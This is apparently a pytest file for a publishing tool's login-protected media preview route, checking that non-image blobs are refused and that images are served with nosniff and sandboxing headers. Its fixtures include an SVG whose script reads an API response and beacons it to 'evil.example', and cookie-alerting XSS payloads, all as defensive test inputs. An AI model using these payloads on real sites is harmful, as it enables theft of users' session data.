"""`/preview/media/<sha256>` serves library images from our own origin, behind the login: only
PNG/JPEG/GIF whose bytes prove it, and in a way no browser will run as a page."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from sqlalchemy import select

from wxpub.models import MediaFile

ROOT = Path(__file__).resolve().parents[2]
PNG = (ROOT / "articles" / "binhai-2023" / "1-shichang" / "images" / "01-flow.png").read_bytes()

SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
       b'<script>fetch("/api/v1/cases").then(r=>r.text()).then(t=>navigator.sendBeacon('
       b'"http://evil.example/",t))</script></svg>')
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"




def store(runtime, data: bytes, content_type: str) -> str:
    """A blob as an older version of the importer could have stored it (type taken on trust)."""
    sha = hashlib.sha256(data).hexdigest()
    with runtime.db.session() as s:
        s.add(MediaFile(sha256=sha, content_type=content_type, size=len(data), data=data))
        s.commit()
    return sha


def test_an_imported_image_is_served_inert(cli, runtime, editor_client):
    assert cli("import", str(ROOT / "articles")).exit_code == 0
    with runtime.db.session() as s:
        (sha,) = [m.sha256 for m in s.scalars(select(MediaFile)) if m.data == PNG]
    response = editor_client.get(f"/preview/media/{sha}")
    assert response.status_code == 200 and response.data == PNG
    assert response.mimetype == "image/png"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    policy = response.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "sandbox" in policy
    assert response.headers["Content-Disposition"] == f'inline; filename="{sha}.png"'


@pytest.mark.parametrize("data,declared", [(SVG, "image/svg+xml"), (HTML, "text/html"), (SVG, "image/png"),
                                           (b"\x89PNG\r\n\x1a\n" + HTML, "image/png")])
def test_a_stored_blob_that_is_not_an_image_is_not_served(runtime, editor_client, data, declared):
    sha = store(runtime, data, declared)
    response = editor_client.get(f"/preview/media/{sha}")
    assert response.status_code == 404
    assert b"alert(document.cookie)" not in response.data and not response.mimetype.startswith("image/")


def test_an_image_stored_under_a_wrong_type_is_served_as_what_it_is(runtime, editor_client):
    sha = store(runtime, PNG, "text/html")
    response = editor_client.get(f"/preview/media/{sha}")
    assert response.status_code == 200 and response.mimetype == "image/png"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_media_needs_a_login(runtime, client):
    sha = store(runtime, PNG, "image/png")
    response = client.get(f"/preview/media/{sha}")
    assert response.status_code in (302, 401) and response.data != PNG
